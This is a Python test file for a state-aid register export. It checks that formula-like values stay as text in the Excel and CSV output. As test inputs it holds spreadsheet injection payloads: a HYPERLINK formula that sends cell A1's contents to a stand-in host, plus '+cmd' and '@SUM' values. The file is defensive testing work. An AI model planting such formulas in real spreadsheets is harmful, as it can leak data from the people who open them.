"""The register export never hands a spreadsheet text to run as a formula (review of issue 29, defect 2): a purpose
of «=HYPERLINK(…)», a region of «+cmd» and a company named «@SUM(…)» stay text in the Excel file (a string cell,
not a formula) and carry an apostrophe in the CSV file, as the workbook export's `guard_formula` does."""

from __future__ import annotations

import csv
import io
from datetime import date

import sqlalchemy as sa
from openpyxl import load_workbook

from omstilling.app import stateaid
from omstilling.app import stateaid_documents as papers

MADE = date(2014, 6, 2)
PURPOSE = '=HYPERLINK("http://x.example/?"&A1;"klikk");b'


def test_text_that_looks_like_a_formula_stays_text_in_the_register_export(demo_sqlite):
    with demo_sqlite.begin() as connection:
        connection.execute(sa.text("UPDATE project SET owner = '@SUM(1+1)' WHERE number = '2014-12'"))
    stateaid.record_award(
        demo_sqlite,
        "vestre-toten",
        "2014-12",
        by="K",
        granted_on=date(2014, 3, 18),
        org_number="974760606",
        purpose=PURPOSE,
        region="+cmd",
        amount_nok=10_000,
    )
    book = load_workbook(io.BytesIO(papers.register_export(demo_sqlite, "vestre-toten", "xlsx", today=MADE).data))
    sheet = book["Tildelinger"]
    headers = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[headers.index("Prosjekt")].value == "2014-12")
    for name, text in (("Formål", PURPOSE), ("Region", "+cmd"), ("Mottaker", "@SUM(1+1)")):
        cell = row[headers.index(name)]
        assert (cell.value, cell.data_type) == (text, "s"), name
    made = papers.register_export(demo_sqlite, "vestre-toten", "csv", today=MADE)
    lines = list(csv.reader(io.StringIO(made.data.decode("utf-8-sig")), delimiter=";"))
    line = next(x for x in lines[1:] if x[lines[0].index("Prosjekt")] == "2014-12")
    assert line[lines[0].index("Formål")] == "'" + PURPOSE
    assert line[lines[0].index("Region")] == "'+cmd"
    assert line[lines[0].index("Mottaker")] == "'@SUM(1+1)"
    assert line[lines[0].index("Prosjekt")] == "2014-12"  # a number's dash in the middle is no formula
